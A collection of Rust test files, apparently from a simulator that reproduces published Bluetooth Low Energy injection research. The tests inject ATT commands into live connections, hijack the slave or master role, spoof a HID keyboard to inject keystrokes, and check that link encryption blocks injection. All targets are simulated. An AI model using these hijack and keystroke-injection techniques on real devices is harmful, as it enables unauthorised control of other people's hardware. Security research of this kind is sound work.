    let lead = reg.histogram("attack.lead_us").expect("lead histogram");
    assert_eq!(lead.count(), stats_attempts);
    let anchor_err = reg
        .histogram("attack.anchor_error_us")
        .expect("anchor error histogram");
    assert!(anchor_err.count() > 0);
}

#[test]
fn ring_buffer_attaches_mid_run_and_keeps_newest() {
    let mut s = ScenarioBuilder::attack_rig(2).hop_interval(36).build();
    s.run_until_connected();
    // Attach late, with a tiny capacity: the sink must replay node labels
    // and then keep only the newest records.
    let ring = RingBufferSink::new(16);
    let records = ring.handle();
    s.world.add_telemetry_sink(Box::new(ring));
    s.run_for(Duration::from_secs(2));
    let ring = records.lock();
    assert_eq!(ring.len(), 16);
    assert!(
        ring.evicted() > 0,
        "connection traffic must overflow 16 slots"
    );
}
