//! BLE 5 / CSA#2 extension: the paper notes its approach "can be easily
//! adapted" to Channel Selection Algorithm #2 (§III-B.3). Verify that the
//! whole pipeline — connection, sniffing, injection, hijack — works when
//! the connection hops with CSA#2.

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::att::AttPdu;
use ble_scenario::{Scenario, ScenarioBuilder};
use injectable::{Mission, MissionState};
use simkit::Duration;

fn csa2_rig(seed: u64) -> Scenario {
    let mut s = ScenarioBuilder::attack_rig(seed).hop_interval(36).build();
    s.central_mut().set_prefer_csa2(true);
    // Restart the connection so it is established with CSA#2.
    s.central_mut().ll.request_disconnect(0x13);
    s
}

#[test]
fn connection_and_traffic_work_over_csa2() {
    let mut s = csa2_rig(40);
    s.run_until_connected();
    let control = s.victim_control_handle();
    {
        let central = s.central();
        let info = central.ll.connection_info().unwrap();
        assert!(info.csa2, "connection must be using CSA#2");
    }
    assert!(s.victim::<Lightbulb>().ll.connection_info().unwrap().csa2);
    s.central_mut().write(control, bulb_payloads::power_on());
    s.run_for(Duration::from_secs(1));
    assert!(
        s.victim::<Lightbulb>().app.on,
        "GATT write over a CSA#2 connection"
    );
    // Long-run stability: both sides keep hopping in sync.
    s.run_for(Duration::from_secs(5));
    assert!(s.central().ll.is_connected());
    assert!(s.victim_connected());
}

#[test]
fn sniffer_follows_csa2_connections() {
    let mut s = csa2_rig(41);
    s.run_until_connected();
    s.run_for(Duration::from_secs(3));
    let attacker = s.attacker();
    let conn = attacker.connection().expect("following");
    assert!(conn.uses_csa2(), "tracker recognised the ChSel bit");
    assert!(conn.next_event_counter > 40, "followed many CSA#2 events");
    assert!(conn.has_slave_seq());
}

#[test]
fn injection_works_over_csa2() {
    let mut s = csa2_rig(42);
    s.run_until_connected();
    let att = AttPdu::WriteRequest {
        handle: s.victim_control_handle(),
        value: bulb_payloads::colour(9, 8, 7),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    s.run_for(Duration::from_secs(20));
    let attacker = s.attacker();
    assert_eq!(
        attacker.mission_state(),
        MissionState::Complete,
        "stats: {:?}",
        attacker.stats()
    );
    assert_eq!(s.victim::<Lightbulb>().app.rgb, (9, 8, 7));
    assert!(s.central().ll.is_connected(), "victims unaware");
}

#[test]
fn master_hijack_works_over_csa2() {
    use ble_host::{GattServer, HostStack};
    use ble_link::{AddressType, DeviceAddress, UpdateRequest};
    let mut s = csa2_rig(43);
    s.central_mut().auto_reconnect = true;
    s.run_until_connected();
    s.central_mut().auto_reconnect = false;
    let control = s.victim_control_handle();
    s.attacker_mut().arm(Mission::HijackMaster {
        update: UpdateRequest {
            win_size: 2,
            win_offset: 3,
            interval: 60,
            latency: 0,
            timeout: 300,
        },
        instant_delta: 6,
        host: Box::new(HostStack::new(
            DeviceAddress::new([0xAD; 6], AddressType::Random),
            GattServer::new(),
            simkit::SimRng::seed_from(5),
        )),
        on_takeover_writes: vec![(control, bulb_payloads::power_on())],
        mitm: None,
    });
    s.run_for(Duration::from_secs(40));
    assert_eq!(
        s.attacker().mission_state(),
        MissionState::TakenOver,
        "stats: {:?}",
        s.attacker().stats()
    );
    s.run_for(Duration::from_secs(5));
    assert!(
        s.victim::<Lightbulb>().app.on,
        "hijacked master drives the CSA#2 slave"
    );
    let attacker = s.attacker();
    let info = attacker.takeover_ll().unwrap().connection_info().unwrap();
    assert!(info.csa2, "the hijacked connection still hops with CSA#2");
}
