//! BLE 5 / CSA#2 extension: the paper notes its approach "can be easily
//! adapted" to Channel Selection Algorithm #2 (§III-B.3). Verify that the
//! whole pipeline — connection, sniffing, injection, hijack — works when
//! the connection hops with CSA#2.

mod common;

use ble_devices::bulb_payloads;
use ble_host::att::AttPdu;
use common::*;
use injectable::{Mission, MissionState};
use simkit::Duration;

fn csa2_rig(seed: u64) -> AttackRig {
    let rig = AttackRig::new(seed, 36);
    rig.central.borrow_mut().set_prefer_csa2(true);
    // Restart the connection so it is established with CSA#2.
    rig.central.borrow_mut().ll.request_disconnect(0x13);
    rig
}

#[test]
fn connection_and_traffic_work_over_csa2() {
    let mut rig = csa2_rig(40);
    rig.run_until_connected();
    {
        let central = rig.central.borrow();
        let info = central.ll.connection_info().unwrap();
        assert!(info.csa2, "connection must be using CSA#2");
    }
    {
        let bulb = rig.bulb.borrow();
        assert!(bulb.ll.connection_info().unwrap().csa2);
    }
    rig.central
        .borrow_mut()
        .write(rig.control_handle, bulb_payloads::power_on());
    rig.sim.run_for(Duration::from_secs(1));
    assert!(
        rig.bulb.borrow().app.on,
        "GATT write over a CSA#2 connection"
    );
    // Long-run stability: both sides keep hopping in sync.
    rig.sim.run_for(Duration::from_secs(5));
    assert!(rig.central.borrow().ll.is_connected());
    assert!(rig.bulb.borrow().ll.is_connected());
}

#[test]
fn sniffer_follows_csa2_connections() {
    let mut rig = csa2_rig(41);
    rig.run_until_connected();
    rig.sim.run_for(Duration::from_secs(3));
    let attacker = rig.attacker.borrow();
    let conn = attacker.connection().expect("following");
    assert!(conn.uses_csa2(), "tracker recognised the ChSel bit");
    assert!(conn.next_event_counter > 40, "followed many CSA#2 events");
    assert!(conn.has_slave_seq());
}

#[test]
fn injection_works_over_csa2() {
    let mut rig = csa2_rig(42);
    rig.run_until_connected();
    let att = AttPdu::WriteRequest {
        handle: rig.control_handle,
        value: bulb_payloads::colour(9, 8, 7),
    }
    .to_bytes();
    rig.attacker.borrow_mut().arm(Mission::InjectAtt { att });
    rig.sim.run_for(Duration::from_secs(20));
    let attacker = rig.attacker.borrow();
    assert_eq!(
        attacker.mission_state(),
        MissionState::Complete,
        "stats: {:?}",
        attacker.stats()
    );
    assert_eq!(rig.bulb.borrow().app.rgb, (9, 8, 7));
    assert!(rig.central.borrow().ll.is_connected(), "victims unaware");
}

#[test]
fn master_hijack_works_over_csa2() {
    use ble_host::{GattServer, HostStack};
    use ble_link::{AddressType, DeviceAddress, UpdateRequest};
    let mut rig = csa2_rig(43);
    rig.central.borrow_mut().auto_reconnect = true;
    rig.run_until_connected();
    rig.central.borrow_mut().auto_reconnect = false;
    rig.attacker.borrow_mut().arm(Mission::HijackMaster {
        update: UpdateRequest {
            win_size: 2,
            win_offset: 3,
            interval: 60,
            latency: 0,
            timeout: 300,
        },
        instant_delta: 6,
        host: Box::new(HostStack::new(
            DeviceAddress::new([0xAD; 6], AddressType::Random),
            GattServer::new(),
            simkit::SimRng::seed_from(5),
        )),
        on_takeover_writes: vec![(rig.control_handle, bulb_payloads::power_on())],
        mitm: None,
    });
    rig.sim.run_for(Duration::from_secs(40));
    assert_eq!(
        rig.attacker.borrow().mission_state(),
        MissionState::TakenOver,
        "stats: {:?}",
        rig.attacker.borrow().stats()
    );
    rig.sim.run_for(Duration::from_secs(5));
    assert!(
        rig.bulb.borrow().app.on,
        "hijacked master drives the CSA#2 slave"
    );
    let ll = rig.attacker.borrow();
    let info = ll.takeover_ll().unwrap().connection_info().unwrap();
    assert!(info.csa2, "the hijacked connection still hops with CSA#2");
}
