//! The paper's §IX future-work sketch, implemented: after hijacking the
//! Slave role, the attacker exposes a malicious HID-over-GATT keyboard
//! profile and injects keystrokes to the Master via notifications.

use ble_host::gatt::props;
use ble_host::{GattServer, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress};
use ble_scenario::ScenarioBuilder;
use injectable::{Mission, MissionState};
use simkit::{Duration, SimRng};

/// HID service and Report characteristic UUIDs.
const HID_SERVICE: Uuid = Uuid::Short(0x1812);
const HID_REPORT: Uuid = Uuid::Short(0x2A4D);

/// A boot-keyboard input report for a single key press (modifier, reserved,
/// six key slots).
fn key_report(keycode: u8) -> Vec<u8> {
    vec![0, 0, keycode, 0, 0, 0, 0, 0]
}

#[test]
fn hijacked_slave_injects_keystrokes_via_hid_profile() {
    let mut s = ScenarioBuilder::attack_rig(60).hop_interval(36).build();
    s.set_victim_auto_readvertise(false);
    s.central_mut().auto_reconnect = false;
    s.run_until_connected();

    // The forged device: keyboard profile instead of the bulb's.
    let mut server = GattServer::new();
    server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"Keyboard".to_vec())
        .finish();
    let report_handle = server
        .service(HID_SERVICE)
        .characteristic(HID_REPORT, props::READ | props::NOTIFY, key_report(0))
        .finish();
    let host = Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        server,
        SimRng::seed_from(1),
    ));
    s.attacker_mut().arm(Mission::HijackSlave { host });
    for _ in 0..300 {
        s.run_for(Duration::from_millis(200));
        if s.attacker().mission_state() == MissionState::TakenOver {
            break;
        }
    }
    assert_eq!(
        s.attacker().mission_state(),
        MissionState::TakenOver,
        "stats: {:?}",
        s.attacker().stats()
    );

    // Inject a keystroke sequence: press/release for three keys.
    // (HID usage ids: H=0x0B, I=0x0C, !=...; sequence just needs to arrive
    // in order.)
    let keys = [0x0B, 0x0C, 0x28]; // H, I, Enter
    for key in keys {
        s.attacker_mut()
            .takeover_host_mut()
            .unwrap()
            .notify(report_handle, &key_report(key));
        s.attacker_mut()
            .takeover_host_mut()
            .unwrap()
            .notify(report_handle, &key_report(0)); // release
        s.run_for(Duration::from_millis(500));
    }

    // The Master (host OS in the real attack) received the keystrokes in
    // order.
    let central = s.central();
    let reports: Vec<Vec<u8>> = central
        .event_log
        .iter()
        .filter_map(|e| match e {
            HostEvent::Notification { handle, value } if *handle == report_handle => {
                Some(value.to_vec())
            }
            _ => None,
        })
        .collect();
    let pressed: Vec<u8> = reports
        .iter()
        .filter(|r| r.len() == 8 && r[2] != 0)
        .map(|r| r[2])
        .collect();
    assert_eq!(
        pressed,
        vec![0x0B, 0x0C, 0x28],
        "keystrokes delivered in order"
    );
    // Interleaved releases arrived too.
    assert!(reports.len() >= 6, "{} reports", reports.len());
    assert!(
        central.ll.is_connected(),
        "master still connected to the 'keyboard'"
    );
}
