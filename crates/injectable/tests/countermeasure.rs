//! The paper's §VIII countermeasure: with AES-CCM link encryption active,
//! an injected plaintext frame cannot carry a valid MIC — the feature is
//! not triggered, but the injection still impacts availability (DoS).

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::att::AttPdu;
use ble_scenario::{Scenario, ScenarioBuilder};
use injectable::Mission;
use simkit::Duration;

fn encrypted_rig(seed: u64) -> Scenario {
    let mut s = ScenarioBuilder::attack_rig(seed).hop_interval(36).build();
    s.central_mut().pair_on_connect = true;
    // Let pairing + encryption complete before the attack.
    for _ in 0..100 {
        s.run_for(Duration::from_millis(100));
        if s.central().host.is_encrypted() && s.victim::<Lightbulb>().host.is_encrypted() {
            break;
        }
    }
    assert!(s.central().host.is_encrypted(), "setup: encrypted");
    assert!(
        s.attacker().connection().is_some() || {
            s.run_for(Duration::from_secs(2));
            s.attacker().connection().is_some()
        }
    );
    s.run_for(Duration::from_millis(400));
    s
}

#[test]
fn injection_into_encrypted_connection_cannot_trigger_features() {
    let mut s = encrypted_rig(30);
    assert!(!s.victim::<Lightbulb>().app.on);
    let att = AttPdu::WriteRequest {
        handle: s.victim_control_handle(),
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    s.run_for(Duration::from_secs(20));

    // The Link-Layer race can still be won, but the plaintext payload fails
    // the MIC check: the feature is never triggered.
    assert!(
        !s.victim::<Lightbulb>().app.on,
        "encrypted link must not accept plaintext ATT injection"
    );
    assert!(
        s.victim::<Lightbulb>().app.command_log.is_empty(),
        "no command must reach the application"
    );
}

#[test]
fn injection_into_encrypted_connection_causes_denial_of_service() {
    let mut s = encrypted_rig(31);
    let att = AttPdu::WriteRequest {
        handle: s.victim_control_handle(),
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    s.run_for(Duration::from_secs(30));

    // §IV: "he can still inject an invalid packet, leading to a denial of
    // service" — the Slave tears the connection down on MIC failure.
    let bulb = s.victim::<Lightbulb>();
    assert!(
        bulb.disconnections >= 1,
        "MIC failure must terminate the encrypted connection"
    );
    assert_eq!(
        bulb.last_disconnect_reason,
        Some(ble_link::ERR_MIC_FAILURE),
        "disconnect reason must be MIC failure"
    );
}
