//! The paper's §VIII countermeasure: with AES-CCM link encryption active,
//! an injected plaintext frame cannot carry a valid MIC — the feature is
//! not triggered, but the injection still impacts availability (DoS).

mod common;

use ble_devices::bulb_payloads;
use ble_host::att::AttPdu;
use common::*;
use injectable::Mission;
use simkit::Duration;

fn encrypted_rig(seed: u64) -> AttackRig {
    let mut rig = AttackRig::new(seed, 36);
    rig.central.borrow_mut().pair_on_connect = true;
    // Let pairing + encryption complete before the attack.
    for _ in 0..100 {
        rig.sim.run_for(Duration::from_millis(100));
        if rig.central.borrow().host.is_encrypted() && rig.bulb.borrow().host.is_encrypted() {
            break;
        }
    }
    assert!(rig.central.borrow().host.is_encrypted(), "setup: encrypted");
    assert!(
        rig.attacker.borrow().connection().is_some() || {
            rig.sim.run_for(Duration::from_secs(2));
            rig.attacker.borrow().connection().is_some()
        }
    );
    rig.sim.run_for(Duration::from_millis(400));
    rig
}

#[test]
fn injection_into_encrypted_connection_cannot_trigger_features() {
    let mut rig = encrypted_rig(30);
    assert!(!rig.bulb.borrow().app.on);
    let att = AttPdu::WriteRequest {
        handle: rig.control_handle,
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    rig.attacker.borrow_mut().arm(Mission::InjectAtt { att });
    rig.sim.run_for(Duration::from_secs(20));

    // The Link-Layer race can still be won, but the plaintext payload fails
    // the MIC check: the feature is never triggered.
    assert!(
        !rig.bulb.borrow().app.on,
        "encrypted link must not accept plaintext ATT injection"
    );
    assert!(
        rig.bulb.borrow().app.command_log.is_empty(),
        "no command must reach the application"
    );
}

#[test]
fn injection_into_encrypted_connection_causes_denial_of_service() {
    let mut rig = encrypted_rig(31);
    let att = AttPdu::WriteRequest {
        handle: rig.control_handle,
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    rig.attacker.borrow_mut().arm(Mission::InjectAtt { att });
    rig.sim.run_for(Duration::from_secs(30));

    // §IV: "he can still inject an invalid packet, leading to a denial of
    // service" — the Slave tears the connection down on MIC failure.
    let bulb = rig.bulb.borrow();
    assert!(
        bulb.disconnections >= 1,
        "MIC failure must terminate the encrypted connection"
    );
    assert_eq!(
        bulb.last_disconnect_reason,
        Some(ble_link::ERR_MIC_FAILURE),
        "disconnect reason must be MIC failure"
    );
}
