//! Scenario B end-to-end: evicting the Slave with an injected
//! `LL_TERMINATE_IND` and impersonating it towards the Master (paper §VI-B).

mod common;

use ble_host::gatt::props;
use ble_host::{GattServer, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, Role};
use common::*;
use injectable::{Mission, MissionState};
use simkit::{Duration, SimRng};

/// The host stack the attacker serves after the takeover: the paper's
/// forged "Hacked" device name.
fn hacked_host() -> Box<HostStack> {
    let mut server = GattServer::new();
    server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"Hacked".to_vec())
        .finish();
    Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        server,
        SimRng::seed_from(999),
    ))
}

#[test]
fn slave_hijack_evicts_bulb_and_serves_forged_name() {
    let mut rig = AttackRig::new(10, 36);
    // The bulb must not re-advertise instantly, or the real central
    // rig has: the attacker takes the slave role; the bulb believes it was
    // disconnected by the master.
    rig.bulb.borrow_mut().auto_readvertise = false;
    rig.central.borrow_mut().auto_reconnect = false;
    rig.run_until_connected();

    rig.attacker.borrow_mut().arm(Mission::HijackSlave {
        host: hacked_host(),
    });
    rig.sim.run_for(Duration::from_secs(30));

    {
        let attacker = rig.attacker.borrow();
        assert_eq!(
            attacker.mission_state(),
            MissionState::TakenOver,
            "stats: {:?}",
            attacker.stats()
        );
        let ll = attacker.takeover_ll().expect("takeover LL");
        assert!(ll.is_connected(), "attacker-as-slave connected");
        assert_eq!(ll.connection_info().unwrap().role, Role::Slave);
    }
    // The real slave was evicted by the injected TERMINATE_IND...
    let bulb = rig.bulb.borrow();
    assert!(!bulb.ll.is_connected(), "bulb evicted");
    assert_eq!(bulb.disconnections, 1);
    assert_eq!(
        bulb.last_disconnect_reason,
        Some(ble_link::ERR_REMOTE_USER_TERMINATED)
    );
    // ...while the master still believes the connection is healthy.
    assert!(rig.central.borrow().ll.is_connected(), "master unaware");
    drop(bulb);

    // The master reads the Device Name and gets the forged value.
    let name_handle = {
        let attacker = rig.attacker.borrow();
        attacker
            .takeover_host()
            .unwrap()
            .server()
            .handle_of(Uuid::DEVICE_NAME)
            .expect("forged GAP profile")
    };
    rig.central.borrow_mut().host.read(name_handle);
    rig.sim.run_for(Duration::from_secs(2));
    let central = rig.central.borrow();
    let got: Vec<&HostEvent> = central
        .event_log
        .iter()
        .filter(|e| matches!(e, HostEvent::ReadResponse { .. }))
        .collect();
    assert!(
        got.iter()
            .any(|e| matches!(e, HostEvent::ReadResponse { value } if value == b"Hacked")),
        "master read {:?}",
        got
    );
}

#[test]
fn slave_hijack_keeps_master_connection_alive_long_term() {
    let mut rig = AttackRig::new(11, 24);
    rig.bulb.borrow_mut().auto_readvertise = false;
    rig.central.borrow_mut().auto_reconnect = false;
    rig.run_until_connected();
    rig.attacker.borrow_mut().arm(Mission::HijackSlave {
        host: hacked_host(),
    });
    rig.sim.run_for(Duration::from_secs(30));
    assert_eq!(
        rig.attacker.borrow().mission_state(),
        MissionState::TakenOver
    );
    // Run for several more seconds: the fake slave must keep answering the
    // master's connection events (no supervision timeout on either side).
    rig.sim.run_for(Duration::from_secs(10));
    assert!(rig.central.borrow().ll.is_connected(), "master still alive");
    assert!(
        rig.attacker.borrow().takeover_ll().unwrap().is_connected(),
        "fake slave still alive"
    );
    assert_eq!(rig.central.borrow().disconnections, 0);
}
