//! Scenario B end-to-end: evicting the Slave with an injected
//! `LL_TERMINATE_IND` and impersonating it towards the Master (paper §VI-B).

use ble_devices::Lightbulb;
use ble_host::gatt::props;
use ble_host::{GattServer, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, Role};
use ble_scenario::{Scenario, ScenarioBuilder};
use injectable::{Mission, MissionState};
use simkit::{Duration, SimRng};

/// The host stack the attacker serves after the takeover: the paper's
/// forged "Hacked" device name.
fn hacked_host() -> Box<HostStack> {
    let mut server = GattServer::new();
    server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"Hacked".to_vec())
        .finish();
    Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        server,
        SimRng::seed_from(999),
    ))
}

/// The standard rig with both auto-recovery behaviours disabled: the bulb
/// must not re-advertise instantly, or the real central reconnects to it.
fn rig(seed: u64, hop_interval: u16) -> Scenario {
    let mut s = ScenarioBuilder::attack_rig(seed)
        .hop_interval(hop_interval)
        .build();
    s.set_victim_auto_readvertise(false);
    s.central_mut().auto_reconnect = false;
    s
}

#[test]
fn slave_hijack_evicts_bulb_and_serves_forged_name() {
    let mut s = rig(10, 36);
    s.run_until_connected();

    s.attacker_mut().arm(Mission::HijackSlave {
        host: hacked_host(),
    });
    s.run_for(Duration::from_secs(30));

    {
        let attacker = s.attacker();
        assert_eq!(
            attacker.mission_state(),
            MissionState::TakenOver,
            "stats: {:?}",
            attacker.stats()
        );
        let ll = attacker.takeover_ll().expect("takeover LL");
        assert!(ll.is_connected(), "attacker-as-slave connected");
        assert_eq!(ll.connection_info().unwrap().role, Role::Slave);
    }
    // The real slave was evicted by the injected TERMINATE_IND...
    let bulb = s.victim::<Lightbulb>();
    assert!(!bulb.ll.is_connected(), "bulb evicted");
    assert_eq!(bulb.disconnections, 1);
    assert_eq!(
        bulb.last_disconnect_reason,
        Some(ble_link::ERR_REMOTE_USER_TERMINATED)
    );
    // ...while the master still believes the connection is healthy.
    assert!(s.central().ll.is_connected(), "master unaware");

    // The master reads the Device Name and gets the forged value.
    let name_handle = s
        .attacker()
        .takeover_host()
        .unwrap()
        .server()
        .handle_of(Uuid::DEVICE_NAME)
        .expect("forged GAP profile");
    s.central_mut().host.read(name_handle);
    s.run_for(Duration::from_secs(2));
    let central = s.central();
    let got: Vec<&HostEvent> = central
        .event_log
        .iter()
        .filter(|e| matches!(e, HostEvent::ReadResponse { .. }))
        .collect();
    assert!(
        got.iter()
            .any(|e| matches!(e, HostEvent::ReadResponse { value } if value == b"Hacked")),
        "master read {:?}",
        got
    );
}

#[test]
fn slave_hijack_keeps_master_connection_alive_long_term() {
    let mut s = rig(11, 24);
    s.run_until_connected();
    s.attacker_mut().arm(Mission::HijackSlave {
        host: hacked_host(),
    });
    s.run_for(Duration::from_secs(30));
    assert_eq!(s.attacker().mission_state(), MissionState::TakenOver);
    // Run for several more seconds: the fake slave must keep answering the
    // master's connection events (no supervision timeout on either side).
    s.run_for(Duration::from_secs(10));
    assert!(s.central().ll.is_connected(), "master still alive");
    assert!(
        s.attacker().takeover_ll().unwrap().is_connected(),
        "fake slave still alive"
    );
    assert_eq!(s.central().disconnections, 0);
}
