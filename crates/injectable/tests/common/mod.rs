//! Shared attack-test rig: lightbulb + smartphone central + attacker on a
//! simulated indoor radio environment — the paper's experimental triangle.

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{Central, Lightbulb};
use ble_link::ConnectionParams;
use ble_phy::{Environment, NodeConfig, NodeId, Position, Simulation};
use injectable::{Attacker, AttackerConfig};
use simkit::{DriftClock, Duration, SimRng};

/// The standard rig: bulb at origin, central and attacker 2 m away
/// (the paper's 2 m equilateral triangle), everything seeded.
///
/// Fields are intentionally public for ad-hoc inspection by the various
/// test binaries; not every test touches every field.
#[allow(dead_code)]
pub struct AttackRig {
    pub sim: Simulation,
    pub bulb: Rc<RefCell<Lightbulb>>,
    pub central: Rc<RefCell<Central>>,
    pub attacker: Rc<RefCell<Attacker>>,
    pub bulb_id: NodeId,
    pub central_id: NodeId,
    pub attacker_id: NodeId,
    pub control_handle: u16,
}

impl AttackRig {
    pub fn new(seed: u64, hop_interval: u16) -> Self {
        Self::with_positions(seed, hop_interval, 2.0, 2.0)
    }

    /// `attacker_distance` and `central_distance` from the bulb, in metres.
    pub fn with_positions(
        seed: u64,
        hop_interval: u16,
        attacker_distance: f64,
        central_distance: f64,
    ) -> Self {
        let mut rng = SimRng::seed_from(seed);
        let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

        let bulb_obj = Lightbulb::new(0xB1, rng.fork());
        let control_handle = bulb_obj.control_handle();
        let bulb_addr = bulb_obj.ll.address();
        let bulb = Rc::new(RefCell::new(bulb_obj));

        let params = ConnectionParams::typical(&mut rng, hop_interval);
        let central = Rc::new(RefCell::new(Central::new(
            0xA0,
            bulb_addr,
            params,
            rng.fork(),
        )));

        let attacker = Rc::new(RefCell::new(Attacker::new(AttackerConfig {
            target_slave: Some(bulb_addr),
            ..AttackerConfig::default()
        })));

        let bulb_id = sim.add_node(
            NodeConfig::new("bulb", Position::new(0.0, 0.0))
                .with_clock(DriftClock::with_random_error(50.0, &mut rng).with_jitter_us(1.0)),
            bulb.clone(),
        );
        let central_id = sim.add_node(
            NodeConfig::new("phone", Position::new(central_distance, 0.0))
                .with_clock(DriftClock::with_random_error(50.0, &mut rng).with_jitter_us(1.0)),
            central.clone(),
        );
        // Attacker hardware: nRF52840-grade crystal (±20 ppm) and +8 dBm TX.
        let attacker_id = sim.add_node(
            NodeConfig::new("attacker", Position::new(0.0, attacker_distance))
                .with_tx_power(8.0)
                .with_clock(DriftClock::with_random_error(20.0, &mut rng).with_jitter_us(1.0)),
            attacker.clone(),
        );

        {
            let bulb = bulb.clone();
            sim.with_ctx(bulb_id, |ctx| bulb.borrow_mut().start(ctx));
        }
        {
            let central = central.clone();
            sim.with_ctx(central_id, |ctx| central.borrow_mut().start(ctx));
        }
        {
            let attacker = attacker.clone();
            sim.with_ctx(attacker_id, |ctx| attacker.borrow_mut().start(ctx));
        }

        AttackRig {
            sim,
            bulb,
            central,
            attacker,
            bulb_id,
            central_id,
            attacker_id,
            control_handle,
        }
    }

    /// Runs until the legitimate connection is up and the attacker follows
    /// it (bounded wait).
    #[allow(dead_code)]
    pub fn run_until_connected(&mut self) {
        for _ in 0..100 {
            self.sim.run_for(Duration::from_millis(100));
            let connected = self.central.borrow().ll.is_connected();
            let following = self.attacker.borrow().connection().is_some();
            if connected && following {
                // Give the sniffer a few events to learn the slave's
                // SN/NESN bits.
                self.sim.run_for(Duration::from_millis(400));
                return;
            }
        }
        panic!(
            "setup failed: central connected={}, attacker following={}",
            self.central.borrow().ll.is_connected(),
            self.attacker.borrow().connection().is_some()
        );
    }
}

/// Builds the raw LL payload of an ATT Write Request (L2CAP framed).
#[allow(dead_code)]
pub fn att_write_frame(handle: u16, value: Vec<u8>) -> Vec<u8> {
    let att = ble_host::att::AttPdu::WriteRequest { handle, value }.to_bytes();
    let frags = ble_host::l2cap::fragment(ble_host::l2cap::CID_ATT, &att, 27);
    assert_eq!(frags.len(), 1);
    frags.into_iter().next().unwrap().1
}
