//! Scenario A end-to-end: injecting ATT requests into a live connection to
//! trigger device features (paper §VI-A).

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::att::AttPdu;
use ble_scenario::{att_write_frame, Scenario, ScenarioBuilder};
use injectable::{AttemptOutcome, Mission, MissionState};
use simkit::Duration;

fn rig(seed: u64, hop_interval: u16) -> Scenario {
    ScenarioBuilder::attack_rig(seed)
        .hop_interval(hop_interval)
        .build()
}

#[test]
fn injected_write_turns_the_bulb_off() {
    let mut s = rig(1, 36);
    s.run_until_connected();
    let control = s.victim_control_handle();
    assert!(!s.victim::<Lightbulb>().app.on);
    // Legitimate traffic first: the central turns the bulb on.
    s.central_mut().write(control, bulb_payloads::power_on());
    s.run_for(Duration::from_millis(500));
    assert!(s.victim::<Lightbulb>().app.on, "precondition: bulb on");

    // Attack: inject a Write Request turning it off.
    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_off(),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    s.run_for(Duration::from_secs(20));

    let bulb = s.victim::<Lightbulb>();
    let attacker = s.attacker();
    assert_eq!(
        attacker.mission_state(),
        MissionState::Complete,
        "attempts: {:?}",
        attacker.stats()
    );
    assert!(!bulb.app.on, "bulb turned off by the injection");
    assert!(attacker.stats().successes() >= 1);
    // The connection survived the injection: both sides still connected.
    assert!(s.central().ll.is_connected(), "master unaware");
    assert!(bulb.ll.is_connected(), "slave still in the connection");
    assert_eq!(bulb.disconnections, 0);
}

#[test]
fn injected_read_captures_the_device_name() {
    let mut s = rig(2, 36);
    s.run_until_connected();
    let name_handle = s
        .victim::<Lightbulb>()
        .host
        .server()
        .handle_of(ble_host::Uuid::DEVICE_NAME)
        .expect("GAP device name");
    let att = AttPdu::ReadRequest {
        handle: name_handle,
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    s.run_for(Duration::from_secs(20));

    let attacker = s.attacker();
    assert_eq!(attacker.mission_state(), MissionState::Complete);
    // The Slave's response contained the ATT Read Response with the name —
    // the paper's confidentiality impact.
    let captured = attacker.captured();
    assert!(!captured.is_empty(), "no response captured");
    let found = captured
        .iter()
        .any(|payload| payload.windows(9).any(|w| w == b"SmartBulb"));
    assert!(found, "device name not found in {captured:?}");
}

#[test]
fn repeated_injections_all_land() {
    let mut s = rig(3, 75);
    let control = s.victim_control_handle();
    // Pace the campaign so the legitimate Master keeps seeing responses on
    // the non-attacked events and the connection stays healthy throughout.
    s.attacker_mut().set_inject_gap(2);
    s.run_until_connected();
    s.attacker_mut().arm(Mission::InjectRaw {
        llid: ble_link::Llid::StartOrComplete,
        payload: att_write_frame(control, bulb_payloads::colour(1, 2, 3)),
        wanted_successes: 5,
    });
    s.run_for(Duration::from_secs(60));
    let attacker = s.attacker();
    assert_eq!(attacker.mission_state(), MissionState::Complete);
    assert_eq!(attacker.stats().successes(), 5);
    assert_eq!(s.victim::<Lightbulb>().app.rgb, (1, 2, 3));
    // Median attempts stays low, as in the paper.
    let attempts = &s.attacker().stats().attempts_per_success;
    let mut sorted = attempts.clone();
    sorted.sort_unstable();
    let median = sorted[sorted.len() / 2];
    assert!(
        median <= 10,
        "median attempts {median}, history {attempts:?}"
    );
}

#[test]
fn injection_attempts_eventually_succeed_even_with_failures() {
    // Attacker far away (8 m) vs central at 2 m: more collisions lost, but
    // the attack still lands (paper experiment 3's headline result).
    let mut s = ScenarioBuilder::attack_rig(4)
        .hop_interval(36)
        .attacker_distance(8.0)
        .central_distance(2.0)
        .build();
    s.run_until_connected();
    let att = AttPdu::WriteRequest {
        handle: s.victim_control_handle(),
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
    s.attacker_mut().arm(Mission::InjectAtt { att });
    s.run_for(Duration::from_secs(120));
    let attacker = s.attacker();
    assert_eq!(
        attacker.mission_state(),
        MissionState::Complete,
        "stats {:?}",
        attacker.stats()
    );
    assert!(s.victim::<Lightbulb>().app.on);
